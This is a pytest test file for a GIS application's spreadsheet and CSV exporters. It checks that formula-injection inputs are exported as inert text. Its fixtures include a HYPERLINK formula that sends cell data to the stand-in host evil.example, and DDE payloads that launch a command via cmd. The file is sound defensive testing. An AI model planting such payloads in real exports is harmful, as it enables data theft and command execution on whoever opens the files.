"""Exports hold no live formula: hostile names are text cells in xlsx and inert in CSV."""

from __future__ import annotations

import csv
import datetime as dt
import io

import openpyxl
import pytest

from gis.io.exporters import export_frame
from gis.io.formulas import inert_cell
from gis.io.ledger import UNIT_LEDGER
from gis.io.ledger_template import template_workbook
from gis.io.rosters import grid_roster, team_roster
from gis.workflows.assignments import GridView, Member, TeamView
from tests.gis.io.factories import unit_frame

FORMULAS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)


def _would_evaluate(text: str) -> bool:
    """What a spreadsheet opening the file would treat as a formula (OWASP's list)."""
    return text[:1] in ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_text_gets_an_apostrophe(text: str) -> None:
    assert inert_cell(text) == "'" + text


@pytest.mark.parametrize("value", [-3.5, -7, "-3.5", "+12", "-1e5", "五女店镇", "", None, "a=b"])
def test_numbers_and_plain_text_are_unchanged(value: object) -> None:
    assert inert_cell(value) == value


def _hostile_frame():  # type: ignore[no-untyped-def]
    frame = unit_frame(len(FORMULAS))
    frame["name"] = list(FORMULAS)
    frame["address"] = list(reversed(FORMULAS))
    frame["floor_area_m2"] = [-12.5] + [None] * (len(FORMULAS) - 1)
    return frame


def _assert_no_formula_cells(book: openpyxl.Workbook) -> list[object]:
    values = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert cell.data_type == "s"
                    assert not _would_evaluate(cell.value), (cell.coordinate, cell.value)
                values.append(cell.value)
    return values


def test_excel_export_holds_no_live_formula_and_keeps_negative_numbers() -> None:
    data = export_frame(_hostile_frame(), UNIT_LEDGER, "xlsx", title=FORMULAS[0])
    book = openpyxl.load_workbook(io.BytesIO(data))
    values = _assert_no_formula_cells(book)
    # Depending on the openpyxl version a lone CR comes back as CR (escaped _x000D_) or as LF.
    read_back = {v.replace("\r", "\n") for v in values if isinstance(v, str)}
    for text in FORMULAS:
        assert "'" + text.replace("\r", "\n") in read_back
    sheet = book.worksheets[0]
    assert sheet["A1"].value == "'" + FORMULAS[0]
    column = [c.value for c in sheet[2]].index(UNIT_LEDGER.by_field("floor_area_m2").header) + 1
    negative = sheet.cell(3, column)
    assert negative.value == -12.5 and negative.data_type == "n"


def test_csv_export_holds_no_formula_and_keeps_negative_numbers() -> None:
    data = export_frame(_hostile_frame(), UNIT_LEDGER, "csv")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    header, body = rows[0], rows[1:]
    cells = [c for row in body for c in row]
    assert not [c for c in cells if _would_evaluate(c) and c != "-12.5"]
    names = [row[header.index(UNIT_LEDGER.by_field("name").header)] for row in body]
    assert names == ["'" + t for t in FORMULAS]
    area = body[0][header.index(UNIT_LEDGER.by_field("floor_area_m2").header)]
    assert float(area) == -12.5


def _member(name: str, phone: str) -> Member:
    return Member("grid_chief", "网格长", 1, "RY0001", name, phone, "AWB", "安委办")


def test_roster_workbooks_hold_no_live_formula() -> None:
    people = [_member(FORMULAS[1], FORMULAS[2]), _member(FORMULAS[4], "13800000000")]
    team = TeamView(
        unit_id=1,
        unit_code="QY000001",
        unit_name=FORMULAS[0],
        address=FORMULAS[3],
        village_code="411003101201",
        village_name=FORMULAS[5],
        fire_key_level="town",
        fire_key_label="镇级",
        lon=114.0,
        lat=34.0,
        members=people,
        missing_roles=[],
        missing_labels=[],
    )
    grid = GridView("411003101201", FORMULAS[6], people[:1], people[1:], [], 3)
    on = dt.date(2025, 1, 1)
    for write, rows in ((team_roster, [team]), (grid_roster, [grid])):
        out = io.BytesIO()
        write(rows, FORMULAS[0], on, out)  # type: ignore[operator]
        values = _assert_no_formula_cells(openpyxl.load_workbook(io.BytesIO(out.getvalue())))
        texts = [v for v in values if isinstance(v, str)]
        assert not [t for t in texts if _would_evaluate(t)], write
        assert any(t.startswith("'" + FORMULAS[0]) for t in texts)


def test_ledger_template_title_is_never_a_formula() -> None:
    data = template_workbook(UNIT_LEDGER, title=FORMULAS[1])
    book = openpyxl.load_workbook(io.BytesIO(data))
    _assert_no_formula_cells(book)
    assert book.worksheets[0]["A1"].value == "'" + FORMULAS[1]
